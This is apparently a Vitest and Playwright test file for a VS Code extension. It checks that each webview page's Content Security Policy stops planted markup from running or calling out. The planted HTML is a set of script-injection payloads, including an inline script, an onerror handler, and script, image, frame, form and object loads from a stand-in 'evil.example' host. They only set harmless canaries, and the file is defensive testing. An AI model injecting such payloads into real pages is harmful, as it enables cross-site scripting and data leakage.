import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { PageKind } from '../../extension/designerPage';
import { designerPage } from '../../extension/designerPage';
import { until } from '../until';
import { launchBrowser } from '../vscode-host/chromium.mjs';

vi.hoisted(() => vi.resetModules());
vi.mock('vscode', () => ({
  Uri: { joinPath: (base: string, ...parts: string[]) => [base, ...parts].join('/') },
  env: { language: 'en' },
  l10n: { bundle: undefined, t: (text: string) => text },
}));

const OWN = 'https://own.example';
const EVIL = 'https://evil.example';
/** Markup as it would stand in a page that drew a repository's text as HTML: each leaves its canary, or calls out. */
const PLANTED = `
<script>document.documentElement.dataset.inline = 'ran'</script>
<script src="${EVIL}/canary.js"></script>
<img src="x" onerror="document.documentElement.dataset.handler = 'ran'">
<img src="${EVIL}/pixel.png">
<link rel="stylesheet" href="${EVIL}/canary.css">
<iframe src="${EVIL}/frame.html"></iframe>
<form action="${EVIL}/form"><input name="a"></form>
<object data="${EVIL}/object"></object>`;

const pageOf = (kind: PageKind): string => {
  const webview = { cspSource: OWN, asWebviewUri: (uri: unknown) => `${OWN}/${uri}` };
  return designerPage(webview as never, '/ext' as never, kind).replace('<div id="root">', `${PLANTED}<div id="root">`);
};

describe('a page in which markup of a repository got in', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(() => browser.close());

  /** What ran, and what was asked for elsewhere, once everything that the page wants has been asked for. */
  async function shown(html: string): Promise<{ readonly ran: readonly string[]; readonly asked: readonly string[] }> {
    const page = await browser.newPage();
    const asked: string[] = [];
    await page.route('**/*', (route) => {
      const { origin, pathname } = new URL(route.request().url());
      if (origin === EVIL) asked.push(pathname);
      if (pathname === '/canary.js')
        return route.fulfill({
          contentType: 'text/javascript',
          body: "document.documentElement.dataset.remote = 'ran'",
        });
      if (origin === OWN && pathname === '/') return route.fulfill({ contentType: 'text/html', body: html });
      return route.fulfill({ status: 404, body: '' });
    });
    await page.goto(`${OWN}/`, { waitUntil: 'load' });
    // The policy's own door to the outside, tried by a script that is there already.
    await page.evaluate((to) => fetch(to).catch(() => undefined), `${EVIL}/fetched`);
    const ran = () => page.evaluate(() => Object.keys(document.documentElement.dataset).sort());
    const found = await ran();
    await page.close();
    return { ran: found, asked: [...new Set(asked)].sort() };
  }

  it.each(['designer', 'gallery', 'compare', 'timeline'] as const)(
    'the %s runs and fetches nothing of it',
    async (kind) => {
      expect(await shown(pageOf(kind))).toEqual({ ran: [], asked: [] });
    },
  );

  it('TWIN without the policy all of it runs and calls out', async () => {
    const open = pageOf('designer').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    const found = await until('every canary', async () => {
      const now = await shown(open);
      return now.ran.length === 3 ? now : null;
    });
    expect(found.ran).toEqual(['handler', 'inline', 'remote']);
    expect(found.asked).toEqual(
      expect.arrayContaining(['/canary.css', '/canary.js', '/fetched', '/frame.html', '/object', '/pixel.png']),
    );
  });
});
